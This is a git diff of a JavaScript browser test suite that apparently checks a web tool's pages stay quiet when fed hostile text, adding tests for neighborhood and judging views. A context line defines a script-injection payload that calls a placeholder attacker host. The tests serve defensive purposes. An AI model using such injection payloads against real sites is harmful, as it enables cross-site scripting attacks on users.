@@ -3,7 +3,7 @@
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
 import { assertQuiet, settled, start } from './browser.mjs';
-import { dedupFacts } from './made.mjs';
+import { dedupFacts, detectFacts, judgeFacts } from './made.mjs';
 import { serve } from './server.mjs';
 
 const does = 'window.pwned=1;alert(1);fetch("http://evil.example/")';
@@ -97,6 +97,21 @@ test('in a report', async () => {
   assertQuiet(tab);
 });
 
+test('in neighborhoods, and on a page on which to judge', async () => {
+  const text = (i) => hostile[i % hostile.length];
+  const tab = await browser.openFile(detectFacts({ sites: 60, text }));
+  await lookAt(tab, ['#/neighborhoods', ...hostile.slice(0, shapes.length).map((at) => `#/neighborhoods?at=${encodeURIComponent(at.replace(/[\ud800-\udfff]/gu, ''))}`)]);
+  assertQuiet(tab);
+  const judging = await browser.openFile(judgeFacts({ pairs: 100, text }));
+  for (let i = 0; i < 100; ++i) {
+    if (i % 10 === 0) assert.deepEqual(await intruders(judging), clean);
+    await judging.keyboard.press('s');
+  }
+  assert.equal(await judging.evaluate(() => document.documentElement.scrollWidth - window.innerWidth), 0);
+  assert.match(await judging.textContent('.counted'), /100 judged/);
+  assertQuiet(judging);
+});
+
 test('in the answers of a service', async () => {
   let used = 0;
   const server = await serve({ clusters: 300, text: (i) => {
@@ -104,7 +119,7 @@ test('in the answers of a service', async () => {
     return hostile[i % hostile.length];
   } });
   const tab = await browser.openLive(server.address);
-  await lookAt(tab, ['#/overview', '#/map', '#/map?by=source', '#/clusters', '#/cluster/1', '#/cluster/2', '#/cluster/3', '#/lists', '#/list/removed', '#/list/neighborhoods', '#/record?name=x', '#/versions?url=x', '#/pair?a=1&b=2']);
+  await lookAt(tab, ['#/overview', '#/map', '#/map?by=source', '#/clusters', '#/cluster/1', '#/cluster/2', '#/cluster/3', '#/lists', '#/list/removed', '#/list/neighborhoods', '#/list/reuse', '#/record?name=x', '#/versions?url=x', '#/pair?a=1&b=2']);
   await browser.go(tab, '#/paste');
   await tab.getByLabel('Text').fill(hostile.join('\n'));
   await tab.getByRole('button', { name: 'Find' }).click();
